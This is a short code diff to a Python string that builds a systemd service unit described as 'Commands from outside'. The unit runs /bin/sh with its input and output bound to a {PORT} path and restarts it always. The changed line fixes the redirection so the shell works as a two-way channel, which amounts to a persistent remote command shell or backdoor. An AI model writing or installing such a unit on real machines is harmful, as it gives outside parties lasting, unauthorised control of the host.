@@ -26,7 +26,7 @@ CONTROL = f"""\
 [Unit]
 Description=Commands from outside
 [Service]
-ExecStart=/bin/sh -c 'exec /bin/sh <{PORT} >{PORT} 2>&1'
+ExecStart=/bin/sh -c 'exec /bin/sh <>{PORT} >&0 2>&1'
 Restart=always
 RestartSec=1
 [Install]
